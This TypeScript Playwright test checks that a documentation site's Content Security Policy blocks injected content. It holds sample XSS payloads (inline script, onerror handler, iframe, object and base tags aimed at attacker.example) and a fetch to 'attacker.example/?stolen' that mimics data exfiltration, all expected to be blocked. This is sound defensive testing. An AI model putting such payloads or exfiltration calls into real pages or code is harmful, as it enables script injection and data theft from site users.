import { expect, test } from './site';

const attacks = {
  'script-src-elem': '<script>window.hacked = "inline"</script>',
  'script-src-attr': '<img src="data:," onerror="window.hacked = \'handler\'">',
  'style-src-elem': '<style>body { display: none }</style>',
  'img-src': '<img src="https://attacker.example/pixel">',
  'frame-src': '<iframe src="https://attacker.example/"></iframe>',
  'object-src': '<object data="data:text/html,hack"></object>',
  'base-uri': '<base href="https://attacker.example/">',
};

test('injected code neither runs nor loads anything', { tag: '@smoke' }, async ({ page, misbehavior }) => {
  await page.goto('docs/guides/faq');
  const violated = await page.evaluateHandle((fragments) => {
    const found: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => found.push(effectiveDirective));
    for (const fragment of fragments) {
      document.body.append(document.createRange().createContextualFragment(fragment));
    }
    fetch('https://attacker.example/?stolen').catch(() => undefined);
    return found;
  }, Object.values(attacks));
  await expect
    .poll(async () => [...new Set(await violated.jsonValue())].sort())
    .toEqual([...Object.keys(attacks), 'connect-src'].sort());
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  // The browser logs each violation, and reports the requests that it did not send.
  misbehavior.messages.length = 0;
  misbehavior.requests.length = 0;
});
